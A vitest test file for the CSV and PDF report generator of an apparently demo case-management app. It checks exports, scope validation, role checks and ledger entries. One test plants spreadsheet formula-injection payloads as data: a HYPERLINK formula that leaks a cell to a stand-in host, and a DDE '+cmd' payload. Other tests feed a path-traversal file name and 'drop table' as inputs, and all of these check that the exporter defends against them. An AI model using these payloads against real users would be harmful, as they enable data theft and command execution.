import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { findings, ledgerEntries } from "@/db/schema";
import { seedDemo } from "../demo/seed";
import { ensureActionTypes } from "../actions/types";
import { loadSessionUser } from "../auth/sessions";
import { DomainError } from "../errors";
import { TEST_ORIGIN, testIntegrator } from "../ledger/testing";
import { callerFor, sessionFor } from "../testing/callers";
import { testDatabase } from "../testing/db";
import { CSV_COLUMNS } from "./csv";
import { generateReport } from "./generate";
import { resolveScope } from "./scope";
import { reportSummary } from "./summary";

const t = await testDatabase();
await seedDemo(t.db, "demo-password-for-tests");
await ensureActionTypes(t.db);
const ledger = await testIntegrator(t.ledger.db);
const identity = { origin: TEST_ORIGIN, verifierKey: ledger.signer.verifierKey };

const ines = await callerFor(t.db, "ines.ortega@casefile.demo");
const priya = await callerFor(t.db, "priya.raman@casefile.demo");
const userOf = async (email: string) => {
  const user = await loadSessionUser(t.db, await sessionFor(t.db, email));
  if (!user) throw new Error(`no session for ${email}`);
  return user;
};
const carla = await userOf("carla.nguyen@casefile.demo"); // compliance
const inesUser = await userOf("ines.ortega@casefile.demo");

const logs = {
  table: "auth_logs",
  columns: ["ts", "username"],
  subject: "j.smith",
  from: "2026-11-19T00:00:00Z",
  to: "2026-11-21T00:00:00Z",
  rowCap: 100,
};
async function makeCase(title: string) {
  return ines.cases.create({ title, summary: "", severity: 3, tlp: "amber" });
}
async function request(caseId: string) {
  return ines.requests.create({
    caseId,
    actionKey: "logs.query",
    params: logs,
    justification: 'Sign-ins of j.smith, "quoted", with a comma, and a\nline break.',
    minutes: 10,
  });
}
async function decide(requestId: string, decision: "approve" | "deny") {
  const { paramsHash } = (await priya.requests.review({ requestId })).request;
  return priya.requests.decide({ requestId, paramsHashSeen: paramsHash, decision, comment: "Checked." });
}

// Case A: approved and run, denied, still pending. Case B: one approved request, moved to January.
const caseA = await makeCase("Report case A");
const approvedA = await request(caseA.id);
const { grantId } = await decide(approvedA.id, "approve");
const execution = await ines.actions.execute({ caseId: caseA.id, grantId: grantId ?? "", params: logs });
const deniedA = await request(caseA.id);
await decide(deniedA.id, "deny");
const pendingA = await request(caseA.id);
const caseB = await makeCase("Report case B");
const januaryB = await request(caseB.id);
await t.owner.sql`update action_requests set created_at = '2026-01-15T10:00:00Z' where id = ${januaryB.id}`;
await t.owner.db.insert(findings).values([
  {
    detector: "rubber_stamping",
    dedupKey: `rubber_stamping:${caseA.id}`,
    severity: "high",
    title: "Approvals in under ten seconds",
    explanation: "x",
    evidence: { cases: [caseA.id] },
  },
  {
    detector: "other",
    dedupKey: "other:1",
    severity: "low",
    title: "Elsewhere",
    explanation: "x",
    evidence: {},
  },
]);
await ledger.integrator.drain();

const csvOf = async (report: string, scope: { case?: string; from?: string; to?: string }) => {
  const file = await generateReport(t.db, carla, { report, scope, ledger: identity });
  const rows: string[][] = parse(file.body.toString("utf8"));
  return rows;
};

describe("CSV reports", () => {
  it("hold exactly the records of the case, under a fixed header", async () => {
    const requests = await csvOf("requests.csv", { case: caseA.key });
    expect(requests[0]).toEqual(CSV_COLUMNS.requests);
    expect(requests.slice(1).map((r) => r[0])).toEqual([approvedA.id, deniedA.id, pendingA.id]);
    expect(requests[1]?.[14]).toContain('"quoted", with a comma, and a\nline break.');
    expect(requests.slice(1).map((r) => r[4])).toEqual(["approved", "denied", "pending"]);

    const decisions = await csvOf("decisions.csv", { case: caseA.id });
    expect(decisions.slice(1).map((r) => [r[1], r[4]])).toEqual([
      [approvedA.id, "approve"],
      [deniedA.id, "deny"],
    ]);
    // Each decision says why its approver was allowed: roles, clearance, policy version.
    const at = (name: string) => CSV_COLUMNS.decisions.indexOf(name);
    expect(decisions.slice(1).map((r) => [r[at("approver_roles")], r[at("approver_clearance")]])).toEqual([
      ["approver", "4"],
      ["approver", "4"],
    ]);
    expect(decisions.slice(1).every((r) => /^\d+$/.test(r[at("policy_version")] ?? ""))).toBe(true);
    const grantsCsv = await csvOf("grants.csv", { case: caseA.key });
    expect(grantsCsv.slice(1).map((r) => r[0])).toEqual([grantId]);
    const executionsCsv = await csvOf("executions.csv", { case: caseA.key });
    expect(executionsCsv.slice(1).map((r) => [r[0], r[5]])).toEqual([[execution.executionId, "succeeded"]]);
    for (const row of executionsCsv.slice(1))
      expect(row[9]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });

  it("hold exactly the records created in the period, end excluded", async () => {
    const january = await csvOf("requests.csv", { from: "2026-01-01", to: "2026-02-01" });
    expect(january.slice(1).map((r) => r[0])).toEqual([januaryB.id]);
    const justAfter = await csvOf("requests.csv", { from: "2026-01-15T10:00:00.001Z", to: "2026-02-01" });
    expect(justAfter).toHaveLength(1); // header only
    const endExcluded = await csvOf("requests.csv", { from: "2026-01-01", to: "2026-01-15T10:00:00Z" });
    expect(endExcluded).toHaveLength(1);
  });
});

describe("CSV reports opened in a spreadsheet", () => {
  it("carry no cell that would run as a formula, in any report", async () => {
    const caseC = await makeCase("Report case C");
    const formula = '=HYPERLINK("https://x.example/?q="&A1,"Open the ticket") for sign-ins of j.smith';
    const { id } = await ines.requests.create({
      caseId: caseC.id,
      actionKey: "logs.query",
      params: logs,
      justification: formula,
      minutes: 10,
    });
    const { paramsHash } = (await priya.requests.review({ requestId: id })).request;
    const decided = await priya.requests.decide({
      requestId: id,
      paramsHashSeen: paramsHash,
      decision: "approve",
      comment: "+cmd|' /C calc'!A0",
    });
    await ines.actions.execute({ caseId: caseC.id, grantId: decided.grantId ?? "", params: logs });
    const formulaStart = /^[=+\-@\t\r]/;
    for (const report of ["requests.csv", "decisions.csv", "grants.csv", "executions.csv"]) {
      const rows = await csvOf(report, { case: caseC.key });
      expect(rows.length, report).toBeGreaterThan(1);
      for (const cell of rows.flat()) expect(cell, report).not.toMatch(formulaStart);
    }
    const [, request] = await csvOf("requests.csv", { case: caseC.key });
    expect(request?.[14]).toBe(`'${formula}`);
    const [, decision] = await csvOf("decisions.csv", { case: caseC.key });
    expect(decision?.[8]).toBe("'+cmd|' /C calc'!A0");
  });
});

describe("scope input", () => {
  const bad = async (scope: { case?: string; from?: string; to?: string }) =>
    generateReport(t.db, carla, { report: "requests.csv", scope, ledger: identity }).then(
      () => null,
      (e: unknown) => (e instanceof DomainError ? [e.code, e.field] : e),
    );

  it("names the field at fault", async () => {
    expect(await bad({})).toEqual(["BAD_REQUEST", "from"]);
    expect(await bad({ from: "2026-01-01" })).toEqual(["BAD_REQUEST", "to"]);
    expect(await bad({ from: "yesterday", to: "2026-01-01" })).toEqual(["BAD_REQUEST", "from"]);
    expect(await bad({ from: "2026-01-01T00:00", to: "2026-02-01" })).toEqual(["BAD_REQUEST", "from"]);
    expect(await bad({ from: "2026-02-01", to: "2026-01-01" })).toEqual(["BAD_REQUEST", "to"]);
    expect(await bad({ from: "2024-01-01", to: "2026-01-01" })).toEqual(["BAD_REQUEST", "to"]);
    expect(await bad({ case: "drop table" })).toEqual(["BAD_REQUEST", "case"]);
    expect(await bad({ case: "CASE-1999-0001" })).toEqual(["NOT_FOUND", "case"]);
    expect(await bad({ case: caseA.key, from: "2026-01-01" })).toEqual(["BAD_REQUEST", "case"]);
    const unknown = await generateReport(t.db, carla, {
      report: "../etc.csv",
      scope: { case: caseA.key },
    }).then(
      () => null,
      (e: unknown) => (e instanceof DomainError ? [e.code, e.field] : e),
    );
    expect(unknown).toEqual(["BAD_REQUEST", "report"]);
  });

  it("refuses anyone without the compliance role", async () => {
    const attempt = generateReport(t.db, inesUser, { report: "summary.pdf", scope: { case: caseA.key } });
    await expect(attempt).rejects.toMatchObject({ name: "DomainError", code: "FORBIDDEN" });
  });
});

describe("PDF summary", () => {
  it("counts the scope's requests, decisions, executions and open findings", async () => {
    const scope = await resolveScope(t.db, { case: caseA.key });
    const summary = await reportSummary(t.db, scope);
    expect(summary).toMatchObject({
      requests: 3,
      approved: 1,
      denied: 1,
      pending: 1,
      expired: 0,
      breakGlass: 0,
      executionsSucceeded: 1,
      executionsFailed: 0,
      grants: 1,
      unusedGrantRatio: null, // the one grant is live and was used
    });
    expect(summary.decisionSeconds.p50).toBeGreaterThanOrEqual(0);
    expect(summary.perDay.reduce((n, d) => n + d.requests, 0)).toBe(3);
    expect(summary.perDay.reduce((n, d) => n + d.decisions, 0)).toBe(2);
    expect(summary.findings.map((f) => f.title)).toEqual(["Approvals in under ten seconds"]);
    expect(summary.ledger?.size).toBeGreaterThan(0);
  });

  it("is a real, non-trivial PDF, and its generation is a ledger entry with its hash", async () => {
    const file = await generateReport(t.db, carla, { report: "summary.pdf", scope: { case: caseA.key } });
    expect(file.body.subarray(0, 5).toString("latin1")).toBe("%PDF-");
    expect(file.body.length).toBeGreaterThan(2_000);
    expect(file.body.subarray(-6).toString("latin1")).toContain("%%EOF");
    expect(file).toMatchObject({
      contentType: "application/pdf",
      filename: `casefile-${caseA.key}-summary.pdf`,
    });
    await ledger.integrator.drain();
    const [entry] = await t.db
      .select({ body: ledgerEntries.body })
      .from(ledgerEntries)
      .where(eq(ledgerEntries.entryId, file.ledgerEntryId));
    const body = JSON.parse(entry?.body ?? "{}") as { type: string; caseKey: string; payload: object };
    expect(body).toMatchObject({
      type: "report.generated",
      caseKey: caseA.key,
      payload: {
        kind: "summary.pdf",
        sha256: file.sha256,
        bytes: file.body.length,
        scope: { kind: "case" },
      },
    });
  });

  it("renders a period with no activity, and a long period by weeks", async () => {
    for (const scope of [
      { from: "2025-03-01", to: "2025-03-02" },
      { from: "2025-06-01", to: "2026-05-31" },
    ]) {
      const file = await generateReport(t.db, carla, { report: "summary.pdf", scope });
      expect(file.body.subarray(0, 5).toString("latin1")).toBe("%PDF-");
    }
  });
});
